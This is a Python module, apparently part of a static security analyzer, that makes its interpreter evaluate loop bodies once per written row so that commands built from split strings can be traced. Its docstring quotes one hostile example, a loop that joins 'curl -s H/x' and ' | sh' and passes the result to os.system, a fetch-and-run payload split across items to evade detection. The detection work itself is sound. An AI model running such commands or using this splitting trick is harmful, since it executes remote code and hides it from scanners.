"""A loop that unpacks rows of a written list that does not fold (issue 16; ADR 0171).

``for a, b in [(x, 'ls'), ('curl -s H/x', ' | sh')]: os.system(a + b)`` ran the payload
split across a row's two names. A folded list of few rows is read row by row (ADR 0063)
and a long one column by column (ADR 0159); a list with one unknown item did not fold, so
each name was one unknown and the run read as a plain dynamic command. Here, when the rows
are written in the code, the body is read once per row with each name bound to its own
item, as if the loop were written out:

* a list or tuple of rows written at the loop, or a module name bound once, at module
  level, to such a list (``pairs = [...]`` lines before);
* ``zip(A, B, ...)`` of such lists, ``enumerate(A)`` of one, ``{...}.items()`` of a dict
  written at the loop.

Only rows whose length matches the loop's names, at most :data:`MAX_ROWS` of them. The same
holds for one row assigned (``a, b = x, CURL``; :func:`elementwise`). What it does not do:
read a row built by a call, or a list a function is handed.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from airlock.imports.packages.flow import Interpreter
    from airlock.imports.packages.flowtypes import Val, When

MAX_ROWS = 8  # rows read one by one; a longer list stays as it was read


def _written(interp: Interpreter, source: ast.expr, *, at_top: bool) -> list[ast.expr] | None:
    """The items of a list written at the loop, or bound once at module level to a name."""
    if isinstance(source, ast.List | ast.Tuple):
        return list(source.elts)
    if not (at_top and isinstance(source, ast.Name) and interp.tree is not None):
        return None
    bound = [
        stmt.value
        for stmt in interp.tree.body
        if isinstance(stmt, ast.Assign)
        and any(isinstance(t, ast.Name) and t.id == source.id for t in stmt.targets)
    ]
    if len(bound) == 1 and isinstance(bound[0], ast.List | ast.Tuple):
        return list(bound[0].elts)
    return None


def _zipped(interp: Interpreter, call: ast.Call, *, at_top: bool) -> list[list[ast.expr]] | None:
    """The rows ``zip``, ``enumerate`` or ``dict.items()`` gives, of lists written."""
    func = call.func
    if isinstance(func, ast.Attribute) and func.attr == "items" and not call.args:
        if isinstance(func.value, ast.Dict) and None not in func.value.keys:
            keys = [k for k in func.value.keys if k is not None]
            return [[k, v] for k, v in zip(keys, func.value.values, strict=True)]
        return None
    if not isinstance(func, ast.Name) or call.keywords:
        return None
    columns = [_written(interp, arg, at_top=at_top) for arg in call.args]
    if func.id == "enumerate" and len(columns) == 1 and columns[0] is not None:
        return [[ast.Constant(i), item] for i, item in enumerate(columns[0])]
    if func.id == "zip" and len(columns) > 1:
        known = [c for c in columns if c is not None]
        if len(known) == len(columns):
            return [list(row) for row in zip(*known, strict=False)]
    return None


def rows(
    interp: Interpreter, source: ast.expr, target: ast.expr, *, at_top: bool
) -> list[list[ast.expr]] | None:
    """The rows a loop over ``source`` unpacks into ``target``'s names, each row the
    expressions of its items; None unless every row is written with one item per name."""
    if not (
        isinstance(target, ast.Tuple | ast.List)
        and all(isinstance(e, ast.Name) for e in target.elts)
    ):
        return None
    if isinstance(source, ast.Call):
        found = _zipped(interp, source, at_top=at_top)
    else:
        items = _written(interp, source, at_top=at_top)
        found = None
        if items is not None and all(isinstance(i, ast.Tuple | ast.List) for i in items):
            found = [list(i.elts) for i in items if isinstance(i, ast.Tuple | ast.List)]
    width = len(target.elts)
    if not found or len(found) > MAX_ROWS or any(len(row) != width for row in found):
        return None
    if any(isinstance(item, ast.Starred) for row in found for item in row):
        return None
    return found


def _pure(node: ast.expr) -> bool:
    """Whether reading ``node`` again runs nothing: no call, await, yield or ``:=``."""
    impure = (ast.Call, ast.Await, ast.Yield, ast.YieldFrom, ast.NamedExpr, ast.Lambda)
    return not any(isinstance(n, impure) for n in ast.walk(node))


def elementwise(
    interp: Interpreter, node: ast.Assign, env: dict[str, Val], when: When
) -> list[tuple[str, Val]]:
    """``a, b = x, CURL``: each name and the value of its own item, read before the
    assignment binds anything (``a, b = b, a`` swaps), for items that run nothing when read.
    The walk binds a tuple target to a folded tuple only, so one unknown item left every
    name unknown."""
    value = node.value
    if not isinstance(value, ast.Tuple | ast.List):
        return []
    out: list[tuple[str, Val]] = []
    for target in node.targets:
        if not (isinstance(target, ast.Tuple | ast.List) and len(target.elts) == len(value.elts)):
            continue
        for name, item in zip(target.elts, value.elts, strict=True):
            if isinstance(name, ast.Name) and not isinstance(item, ast.Starred) and _pure(item):
                out.append((name.id, interp.expr(item, env, when)))
    return out
